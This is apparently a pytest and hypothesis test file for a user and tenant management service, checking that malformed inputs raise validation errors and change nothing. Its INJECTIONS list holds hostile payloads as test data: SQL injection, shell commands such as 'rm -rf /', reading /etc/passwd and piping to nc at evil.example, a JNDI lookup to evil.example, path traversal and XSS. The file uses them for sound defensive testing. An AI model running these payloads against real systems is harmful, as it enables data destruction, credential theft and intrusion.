"""Bad input, for every public operation: a typed ``ValidationError`` and nothing changed.

For each operation the test starts from a call that would be valid (made by the platform
operator, who may do everything, so authorization never hides a validation gap), replaces one
parameter with a value hypothesis draws from that parameter's bad inputs, and asserts the
error and that the store's record counts, tables, audit log, outbox and audit-sink exports are
exactly as before.

Bad inputs: wrong types, unknown attributes, values beyond ``user_engine.domain.limits``,
malformed ids, injection strings (SQL, shell, format strings, paths) where an identifier is
expected, and unicode edge cases (NUL, lone surrogates, bidi overrides, zero-width and other
format characters, combining marks in identifiers, very long strings). Free text (names,
handles, profile values) may legitimately contain quotes or combining marks: those are stored
verbatim, as the last tests show.
"""

from __future__ import annotations

import inspect
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from user_engine.domain import Principal, PrincipalKind
from user_engine.domain.limits import (
    MAX_ATTRIBUTES_PER_CATALOG,
    MAX_ENUM_CHOICES,
    MAX_ID_LENGTH,
    MAX_NAME_LENGTH,
    MAX_PAGE_SIZE,
    MAX_PATTERN_LENGTH,
    MAX_ROLES,
    MAX_SECRET_BYTES,
    MAX_STRING_VALUE_LENGTH,
    MAX_SUBJECT_LENGTH,
)
from user_engine.errors import ValidationError
from user_engine.service import UserEngineService

if TYPE_CHECKING:
    from hypothesis.strategies import SearchStrategy

    from conftest import World

# -- the raw material ----------------------------------------------------------------------
INJECTIONS = [
    "'; DROP TABLE users; --",
    '" OR "1"="1',
    "1; SELECT pg_sleep(10)",
    "$(rm -rf /)",
    "`id`",
    "; cat /etc/passwd",
    "| nc evil.example 80",
    "../../../etc/passwd",
    "{0.__class__.__mro__}",
    "%s%s%s%n",
    "%(secret)s",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
]
# fmt: off
NOT_PRINTABLE = [
    "\x00", "\x07", "\x1b[31m", "\n", "\r\n", "\t", "\x7f", "\x85", "\u00a0", "\u200b",
    "\u200d", "\u200e", "\u202e", "\u2066", "\u2028", "\ufeff", "\ud800", "\udfff",
    "\U000e0041",
]
# fmt: on
# fmt: off
IDENTIFIER_UNICODE = [
    "e\u0301", "\u0301", "acm\u0435", "ａｃｍｅ", "ﬁle", "İstanbul", "usr_😀", "ß", "日本",
]
# fmt: on
"""Unicode that is fine in text but never in an identifier (combining marks, homoglyphs)."""

_ID = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.:-]{0,63}")
_SLUG = re.compile(r"[a-z][a-z0-9-]{1,62}")
_LAYERS = {"user-in-tenant", "user", "tenant-default", "application-default"}

wrong_types: SearchStrategy[Any] = st.one_of(
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.binary(max_size=8),
    st.lists(st.integers(), max_size=2),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
    st.just(object()),
    st.just(date(2026, 1, 1)),
)
"""Values of a type no string parameter accepts."""


def _embedded(chars: list[str]) -> SearchStrategy[str]:
    return st.builds(
        lambda head, char, tail: head + char + tail,
        st.text(alphabet="abcdefghij", max_size=4),
        st.sampled_from(chars),
        st.text(alphabet="abcdefghij", max_size=4),
    )


def _longer_than(limit: int) -> SearchStrategy[str]:
    return st.integers(limit + 1, limit + 50).map(lambda n: "a" * n) | st.just("a" * 100_000)


def malformed(pattern: re.Pattern[str], limit: int, *, optional: bool) -> SearchStrategy[Any]:
    """Anything that is not a well-formed identifier of ``pattern`` (None too if required)."""
    strategies = [
        wrong_types,
        st.sampled_from(["", " ", "-x", "_x", ".", "x y", "Acme", "a", *INJECTIONS]),
        st.sampled_from(IDENTIFIER_UNICODE),
        _embedded(NOT_PRINTABLE),
        _longer_than(limit),
        st.text(max_size=70).filter(lambda s: not pattern.fullmatch(s)),
    ]
    if not optional:
        strategies.append(st.none())
    return st.one_of(strategies).filter(lambda v: not (isinstance(v, str) and pattern.fullmatch(v)))


def bad_id(*, optional: bool = False) -> SearchStrategy[Any]:
    """A malformed id (users, accounts, factors, requests)."""
    return malformed(_ID, MAX_ID_LENGTH, optional=optional)


def bad_slug(*, optional: bool = False) -> SearchStrategy[Any]:
    """A malformed slug (tenants, applications, factor kinds)."""
    return malformed(_SLUG, MAX_ID_LENGTH, optional=optional)


def bad_text(limit: int = MAX_NAME_LENGTH, *, optional: bool = False) -> SearchStrategy[Any]:
    """Text that is empty, blank, too long, unprintable, or not text at all."""
    strategies = [
        wrong_types,
        st.sampled_from(["", "   ", "\t\t"]),
        _embedded(NOT_PRINTABLE),
        _longer_than(limit),
    ]
    if not optional:
        strategies.append(st.none())
    return st.one_of(strategies)


def bad_int(*, minimum: int, maximum: int | None = None) -> SearchStrategy[Any]:
    """Not an int in ``[minimum, maximum]``: out of range, a bool, a float, a string, None."""
    out_of_range = st.integers(max_value=minimum - 1)
    if maximum is not None:
        out_of_range = out_of_range | st.integers(min_value=maximum + 1)
    return st.one_of(
        out_of_range,
        st.booleans(),
        st.floats(),
        st.sampled_from(["1", "0", "ten"]),
        st.just(None),
        st.lists(st.integers(), max_size=1),
    )


bad_layer = st.one_of(
    wrong_types,
    st.none(),
    st.just("catalog-default"),
    st.sampled_from(["USER", "user ", "user\x00", "tenant_default", *INJECTIONS]),
    st.text(max_size=20).filter(lambda s: s not in _LAYERS),
)
# fmt: off
bad_attribute = st.one_of(
    wrong_types,
    st.none(),
    st.sampled_from([
        "", "nickname", "crm", "crm.", ".nickname", "crm.nick.name", "CRM.nickname",
        "crm.Nickname", "crm.nick name", "crm.shoe_size", "nosuchapp.nickname",
        "crm." + "a" * 64, "c.nickname", "crm.nickname\x00", "crm.nickn\u0430me",
    ] + [f"crm.{i}" for i in INJECTIONS] + [f"{i}.nickname" for i in INJECTIONS]),
    _embedded(NOT_PRINTABLE),
)
# fmt: on
"""Attribute names that are malformed or name nothing in a published catalog."""


def _role_lists() -> SearchStrategy[Any]:
    return st.one_of(
        wrong_types.filter(lambda v: not isinstance(v, list | dict | bytes)),
        st.none(),
        st.text(min_size=1, max_size=5),  # a string is not a list of roles
        st.lists(bad_text(), min_size=1, max_size=3),
        st.just([f"role-{i}" for i in range(MAX_ROLES + 1)]),
    )


bad_roles = _role_lists()
bad_granted = st.one_of(
    wrong_types.filter(lambda v: not isinstance(v, list | dict | bytes)),
    st.none(),
    st.sampled_from(["crm.nickname"]),  # a string, not a list
    st.lists(bad_attribute, min_size=1, max_size=3),
    st.just([["crm.nickname"]]),  # unhashable element
    st.just([{"crm": "nickname"}]),
)


def _definition(**overrides: Any) -> dict[str, Any]:
    return {"name": "bio", "type": "string", "writers": ["self"], **overrides}


# fmt: off
BAD_DEFINITIONS: list[Any] = [
    "bio", 5, None, ["name", "bio"],
    _definition(colour="red"),  # unknown field
    _definition(name="Bio"), _definition(name=""), _definition(name="a" * 64),
    _definition(name="'; DROP TABLE catalogs; --"), _definition(name=5),
    _definition(type="text"), _definition(type=None), _definition(type=["string"]),
    _definition(sensitivity="top-secret"), _definition(writers=["anyone"]),
    _definition(writers="self"), _definition(writers=[]), _definition(layers=["catalog-default"]),
    _definition(layers=[]), _definition(layers=["everywhere"]), _definition(required="yes"),
    _definition(required=True), _definition(enum=[]), _definition(enum="abc"),
    _definition(enum=[1, 2]), _definition(enum=[f"c{i}" for i in range(MAX_ENUM_CHOICES + 1)]),
    _definition(min_length=-1), _definition(max_length="10"), _definition(min_length=True),
    _definition(pattern="("), _definition(pattern="a" * (MAX_PATTERN_LENGTH + 1)),
    _definition(pattern=5), _definition(type="integer", pattern="[0-9]+"),
    _definition(type="integer", minimum="0"), _definition(type="number", maximum=float("inf")),
    _definition(type="number", minimum=float("nan")), _definition(type="integer", default="1"),
    _definition(type="integer", default=2**60), _definition(type="boolean", default=0),
    _definition(default="x" * (MAX_STRING_VALUE_LENGTH + 1)), _definition(default="a\x00b"),
    _definition(enum=["en", "fr"], default="de"), _definition(max_length=2, default="abc"),
    _definition(pattern="[0-9]+", default="abc"), _definition(type="integer", minimum=5, default=1),
]
# fmt: on
bad_catalog = st.one_of(
    st.sampled_from(["bio", 5, None, {"name": "bio"}, b"x"]),
    st.sampled_from(BAD_DEFINITIONS).map(lambda d: [_definition(name="fine"), d]),
    st.just([_definition(), _definition()]),  # duplicate names
    st.just([_definition(name=f"a{i}") for i in range(MAX_ATTRIBUTES_PER_CATALOG + 1)]),
)
bad_secret = st.one_of(
    st.sampled_from([b"", ""]),
    st.integers(),
    st.none(),
    st.lists(st.integers(0, 255), max_size=3),
    st.just(bytearray(b"abc")),
    st.just(b"x" * (MAX_SECRET_BYTES + 1)),
    st.just("é" * (MAX_SECRET_BYTES // 2 + 1)),  # short in characters, too long in bytes
)
bad_time = st.one_of(
    st.just(datetime(2026, 1, 1)),  # naive
    st.sampled_from(["2026-01-01T00:00:00Z", 0, 1.5, date(2026, 1, 1)]),
)
bad_value_for_nickname = st.one_of(
    wrong_types.filter(lambda v: not isinstance(v, str)),
    st.none(),
    _longer_than(64),
    _longer_than(MAX_STRING_VALUE_LENGTH),
    _embedded(["\x00", "\ud800", "\udfff"]),
)
"""Values crm.nickname (a string of at most 64 characters) refuses."""

# fmt: off
bad_principal = st.one_of(
    wrong_types,
    st.none(),
    st.sampled_from(["ops-root", "platform-operator:ops-root"]),
    st.sampled_from([
        Principal(PrincipalKind.PLATFORM_OPERATOR, "'; DROP TABLE audit; --"),
        Principal(PrincipalKind.PLATFORM_OPERATOR, ""),
        Principal(PrincipalKind.PLATFORM_OPERATOR, "ops\x00root"),
        Principal(PrincipalKind.PLATFORM_OPERATOR, "ops-root", tenant_id="acme"),
        Principal(PrincipalKind.USER, "a" * 65),
        Principal(PrincipalKind.TENANT_ADMIN, "adm-acme", None),
        Principal(PrincipalKind.TENANT_ADMIN, "adm-acme", "ACME"),
        Principal("platform-operator", "ops-root"),  # type: ignore[arg-type]
    ]),
)
# fmt: on


# -- the operations ------------------------------------------------------------------------
@dataclass(frozen=True)
class Call:
    """One operation: its valid arguments (given the world) and bad values per parameter."""

    valid: Callable[[World], dict[str, Any]]
    bad: dict[str, SearchStrategy[Any]] = field(default_factory=dict)
    positional: tuple[str, ...] = ()


def _alice(w: World) -> str:
    return w.alice.id


# fmt: off
CALLS: dict[str, Call] = {
    "diagnostics": Call(lambda w: {}),
    "me": Call(lambda w: {"tenant_id": None}, {"tenant_id": bad_slug(optional=True)}),
    "create_tenant": Call(
        lambda w: {"tenant_id": "initech", "name": "Initech"},
        {"tenant_id": bad_slug(), "name": bad_text()},
        ("tenant_id",),
    ),
    "suspend_tenant": Call(lambda w: {"tenant_id": "acme"}, {"tenant_id": bad_slug()},
                           ("tenant_id",)),
    "reactivate_tenant": Call(lambda w: {"tenant_id": "acme"}, {"tenant_id": bad_slug()},
                              ("tenant_id",)),
    "get_tenant": Call(lambda w: {"tenant_id": "acme"}, {"tenant_id": bad_slug()},
                       ("tenant_id",)),
    "create_user": Call(
        lambda w: {"display_name": "Erin", "tenant_id": "acme", "roles": ["viewer"]},
        {"display_name": bad_text(), "tenant_id": bad_slug(optional=True), "roles": bad_roles},
    ),
    "get_user": Call(lambda w: {"user_id": _alice(w)}, {"user_id": bad_id()}, ("user_id",)),
    "suspend_user": Call(lambda w: {"user_id": _alice(w)}, {"user_id": bad_id()},
                         ("user_id",)),
    "reactivate_user": Call(lambda w: {"user_id": _alice(w)}, {"user_id": bad_id()},
                            ("user_id",)),
    "close_user": Call(lambda w: {"user_id": _alice(w)}, {"user_id": bad_id()}, ("user_id",)),
    "create_account": Call(
        lambda w: {"user_id": _alice(w), "handle": "alice@work.example"},
        {"user_id": bad_id(), "handle": bad_text()},
        ("user_id",),
    ),
    "suspend_account": Call(lambda w: {"account_id": w.alice_account.id},
                            {"account_id": bad_id()}, ("account_id",)),
    "reactivate_account": Call(lambda w: {"account_id": w.alice_account.id},
                               {"account_id": bad_id()}, ("account_id",)),
    "close_account": Call(lambda w: {"account_id": w.alice_account.id},
                          {"account_id": bad_id()}, ("account_id",)),
    "add_to_tenant": Call(
        lambda w: {"tenant_id": "acme", "user_id": w.dave.id, "roles": ["viewer"]},
        {"tenant_id": bad_slug(), "user_id": bad_id(), "roles": bad_roles},
        ("tenant_id", "user_id"),
    ),
    "suspend_tenant_account": Call(
        lambda w: {"tenant_id": "acme", "user_id": _alice(w)},
        {"tenant_id": bad_slug(), "user_id": bad_id()},
        ("tenant_id", "user_id"),
    ),
    "reactivate_tenant_account": Call(
        lambda w: {"tenant_id": "acme", "user_id": _alice(w)},
        {"tenant_id": bad_slug(), "user_id": bad_id()},
        ("tenant_id", "user_id"),
    ),
    "remove_from_tenant": Call(
        lambda w: {"tenant_id": "acme", "user_id": _alice(w)},
        {"tenant_id": bad_slug(), "user_id": bad_id()},
        ("tenant_id", "user_id"),
    ),
    "assign_tenant_roles": Call(
        lambda w: {"tenant_id": "acme", "user_id": _alice(w), "roles": ["owner"]},
        {"tenant_id": bad_slug(), "user_id": bad_id(), "roles": bad_roles},
        ("tenant_id", "user_id", "roles"),
    ),
    "list_tenant_accounts": Call(lambda w: {"tenant_id": "acme"}, {"tenant_id": bad_slug()},
                                 ("tenant_id",)),
    "add_membership": Call(
        lambda w: {"tenant_id": "acme", "user_id": w.bob.id, "group": "sales"},
        {"tenant_id": bad_slug(), "user_id": bad_id(), "group": bad_text()},
        ("tenant_id", "user_id", "group"),
    ),
    "remove_membership": Call(
        lambda w: {"tenant_id": "acme", "user_id": _alice(w), "group": "staff"},
        {"tenant_id": bad_slug(), "user_id": bad_id(), "group": bad_text()},
        ("tenant_id", "user_id", "group"),
    ),
    "list_memberships": Call(
        lambda w: {"tenant_id": "acme", "user_id": None},
        {"tenant_id": bad_slug(), "user_id": bad_id(optional=True)},
        ("tenant_id",),
    ),
    "export_memberships": Call(lambda w: {"tenant_id": "acme"}, {"tenant_id": bad_slug()},
                               ("tenant_id",)),
    "link_identity": Call(
        lambda w: {"user_id": w.bob.id, "issuer": "https://idp.example", "subject": "bob-sub",
                   "evidence": None},
        {"user_id": bad_id(), "issuer": bad_text(MAX_SUBJECT_LENGTH),
         "subject": bad_text(MAX_SUBJECT_LENGTH),
         "evidence": wrong_types.filter(lambda v: not isinstance(v, str))},
        ("user_id",),
    ),
    "unlink_identity": Call(
        lambda w: {"issuer": "https://idp.example", "subject": "alice-sub"},
        {"issuer": bad_text(MAX_SUBJECT_LENGTH), "subject": bad_text(MAX_SUBJECT_LENGTH)},
    ),
    "lookup_identity": Call(
        lambda w: {"issuer": "https://idp.example", "subject": "alice-sub"},
        {"issuer": bad_text(MAX_SUBJECT_LENGTH), "subject": bad_text(MAX_SUBJECT_LENGTH)},
    ),
    "enroll_factor": Call(
        lambda w: {"user_id": _alice(w), "kind": "totp", "label": "laptop", "secret": b"k"},
        {"user_id": bad_id(), "kind": bad_slug(), "label": bad_text(), "secret": bad_secret},
        ("user_id",),
    ),
    "remove_factor": Call(
        lambda w: {"user_id": _alice(w), "factor_id": w.alice_factor.id},
        {"user_id": bad_id(), "factor_id": bad_id()},
        ("user_id", "factor_id"),
    ),
    "register_application": Call(
        lambda w: {"application_id": "helpdesk", "name": "Helpdesk"},
        {"application_id": bad_slug(), "name": bad_text()},
        ("application_id",),
    ),
    "bind_application": Call(
        lambda w: {"application_id": "billing", "tenant_id": "acme", "user_id": _alice(w),
                   "granted_attributes": ["crm.nickname"]},
        {"application_id": bad_slug(), "tenant_id": bad_slug(), "user_id": bad_id(),
         "granted_attributes": bad_granted},
        ("application_id",),
    ),
    "unbind_application": Call(
        lambda w: {"application_id": "crm", "tenant_id": "acme", "user_id": _alice(w)},
        {"application_id": bad_slug(), "tenant_id": bad_slug(), "user_id": bad_id()},
        ("application_id",),
    ),
    "publish_catalog": Call(
        lambda w: {"application_id": "crm", "attributes": [_definition()]},
        {"application_id": bad_slug(), "attributes": bad_catalog},
        ("application_id", "attributes"),
    ),
    "get_catalog": Call(
        lambda w: {"application_id": "crm", "version": None},
        {"application_id": bad_slug(),
         "version": bad_int(minimum=1).filter(lambda v: v is not None)},
        ("application_id",),
    ),
    "list_catalog_versions": Call(lambda w: {"application_id": "crm"},
                                  {"application_id": bad_slug()}, ("application_id",)),
    "write_profile_value": Call(
        lambda w: {"attribute": "crm.nickname", "layer": "user-in-tenant", "value": "nick",
                   "user_id": _alice(w), "tenant_id": "acme", "expected_version": None},
        {"attribute": bad_attribute, "layer": bad_layer, "value": bad_value_for_nickname,
         "user_id": bad_id(optional=True), "tenant_id": bad_slug(optional=True),
         "expected_version": bad_int(minimum=0).filter(lambda v: v is not None)},
    ),
    "clear_profile_value": Call(
        lambda w: {"attribute": "crm.nickname", "layer": "user-in-tenant",
                   "user_id": _alice(w), "tenant_id": "acme", "expected_version": None},
        {"attribute": bad_attribute, "layer": bad_layer, "user_id": bad_id(optional=True),
         "tenant_id": bad_slug(optional=True),
         "expected_version": bad_int(minimum=0).filter(lambda v: v is not None)},
    ),
    "effective_profile": Call(
        lambda w: {"user_id": _alice(w), "tenant_id": "acme", "explain": False},
        {"user_id": bad_id(), "tenant_id": bad_slug(optional=True),
         "explain": st.one_of(st.integers(), st.none(), st.sampled_from(["yes", "true"]))},
        ("user_id",),
    ),
    "project_profile": Call(
        lambda w: {"application_id": "crm", "tenant_id": "acme", "user_id": _alice(w)},
        {"application_id": bad_slug(), "tenant_id": bad_slug(), "user_id": bad_id()},
        ("application_id",),
    ),
    "verify_secret_attribute": Call(
        lambda w: {"attribute": "crm.token", "user_id": _alice(w), "tenant_id": "acme",
                   "candidate": "guess"},
        {"attribute": st.one_of(bad_attribute, st.just("crm.nickname")),
         "user_id": bad_id(), "tenant_id": bad_slug(),
         "candidate": wrong_types.filter(lambda v: not isinstance(v, str)) | st.none()},
    ),
    "read_audit": Call(
        lambda w: {"tenant_id": None, "actor_id": None, "action": None, "outcome": None,
                   "since": None, "until": None, "after": 0, "limit": 100},
        {"tenant_id": bad_slug(optional=True), "actor_id": bad_id(optional=True),
         "action": bad_text(64, optional=True),
         "outcome": st.one_of(st.sampled_from(["allowed", "DENIED", "", "success "]),
                              st.integers(), st.lists(st.integers(), max_size=1)),
         "since": bad_time, "until": bad_time,
         "after": bad_int(minimum=0), "limit": bad_int(minimum=1, maximum=MAX_PAGE_SIZE)},
    ),
    "pending_events": Call(
        lambda w: {"limit": 10, "after": 0},
        {"limit": bad_int(minimum=1, maximum=MAX_PAGE_SIZE), "after": bad_int(minimum=0)},
    ),
    "dead_letters": Call(
        lambda w: {"limit": 10, "after": 0},
        {"limit": bad_int(minimum=1, maximum=MAX_PAGE_SIZE), "after": bad_int(minimum=0)},
    ),
}
# fmt: on

NO_INPUT = {"health", "readiness", "transaction"}
"""Public methods without parameters to get wrong."""

SHARED_WORLD = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
"""The fixture world is shared by the examples of one test on purpose: bad input must change
nothing, and every example asserts exactly that. 25 examples keep the file to seconds."""

CASES = [(name, parameter) for name, call in CALLS.items() for parameter in call.bad] + [
    (name, "principal") for name in CALLS
]


def _invoke(world: World, operation: str, principal: object, arguments: dict[str, Any]) -> None:
    call = CALLS[operation]
    positional = [arguments.pop(name) for name in call.positional]
    getattr(world.service, operation)(principal, *positional, **arguments)


def test_every_public_operation_has_bad_input_cases() -> None:
    public = {
        name
        for name, _ in inspect.getmembers(UserEngineService, inspect.isfunction)
        if not name.startswith("_")
    }

    assert public == set(CALLS) | NO_INPUT | {"request"}


def test_every_parameter_of_every_operation_has_a_bad_input_strategy() -> None:
    for name, call in CALLS.items():
        parameters = set(inspect.signature(getattr(UserEngineService, name)).parameters)
        assert parameters - {"self", "principal"} == set(call.bad), name


@pytest.mark.parametrize(("operation", "parameter"), CASES, ids=[f"{o}-{p}" for o, p in CASES])
@SHARED_WORLD
@given(data=st.data())
def test_bad_input_is_a_validation_error_and_changes_nothing(
    world: World, operation: str, parameter: str, data: st.DataObject
) -> None:
    arguments = CALLS[operation].valid(world)
    principal: object = world.operator
    if parameter == "principal":
        principal = data.draw(bad_principal, label="principal")
    else:
        arguments[parameter] = data.draw(CALLS[operation].bad[parameter], label=parameter)
    before = world.snapshot()

    with pytest.raises(ValidationError) as error:
        _invoke(world, operation, principal, arguments)

    assert error.value.code.startswith("validation")
    assert world.snapshot() == before


@SHARED_WORLD
@given(request_id=bad_id())
def test_a_malformed_request_id_is_a_validation_error(world: World, request_id: object) -> None:
    with pytest.raises(ValidationError), world.service.request(request_id):  # type: ignore[arg-type]
        pass  # pragma: no cover - never entered


def test_the_documented_limits_are_inclusive(world: World) -> None:
    operator = world.operator
    longest_name = "n" * MAX_NAME_LENGTH
    user = world.service.create_user(operator, display_name=longest_name)
    assert user.display_name == longest_name
    roles = [f"r{i}" for i in range(MAX_ROLES)]
    assert (
        len(world.service.add_to_tenant(operator, "acme", user.id, roles=roles).roles) == MAX_ROLES
    )
    world.service.link_identity(
        operator, user.id, issuer="i" * MAX_SUBJECT_LENGTH, subject="s" * MAX_SUBJECT_LENGTH
    )
    world.service.enroll_factor(
        operator, user.id, kind="totp", label="x", secret=b"x" * MAX_SECRET_BYTES
    )
    assert len(world.service.read_audit(operator, limit=MAX_PAGE_SIZE).records) > 0
    tenant = "t" + "a" * 62
    assert world.service.create_tenant(operator, tenant, name="Long").id == tenant


@pytest.mark.parametrize("text", [*INJECTIONS, "José", "Zoë", "李小龍", "O'Brien"])
def test_injection_strings_and_unicode_in_free_text_are_stored_verbatim(
    world: World, text: str
) -> None:
    operator = world.operator
    user = world.service.create_user(operator, display_name=text)
    world.service.add_to_tenant(operator, "acme", user.id, roles=[text])
    world.service.add_membership(operator, "acme", user.id, text)
    world.service.write_profile_value(
        operator, attribute="crm.nickname", layer="user", user_id=user.id, value=text
    )

    assert world.service.get_user(operator, user.id).display_name == text
    assert [m.group for m in world.service.list_memberships(operator, "acme", user_id=user.id)] == [
        text
    ]
    profile = world.service.effective_profile(operator, user.id)
    assert profile.attributes["crm.nickname"].value == text


def test_a_read_audit_time_window_needs_aware_datetimes(world: World) -> None:
    page = world.service.read_audit(
        world.operator, since=datetime(2025, 1, 1, tzinfo=UTC), until=datetime.now(UTC)
    )
    assert page.records


@pytest.mark.parametrize(
    "attribute", ["CRM.token", "'; DROP TABLE x; --.token", "cr\u0430m.token", "a.token"]
)
def test_a_malformed_application_in_an_attribute_name_is_refused_before_authorization(
    world: World, attribute: str
) -> None:
    before = world.snapshot()

    with pytest.raises(ValidationError):
        world.service.verify_secret_attribute(
            world.crm,
            attribute=attribute,
            user_id=world.alice.id,
            tenant_id="acme",
            candidate="guess",
        )

    assert world.snapshot() == before, "bad input was audited as a denial"
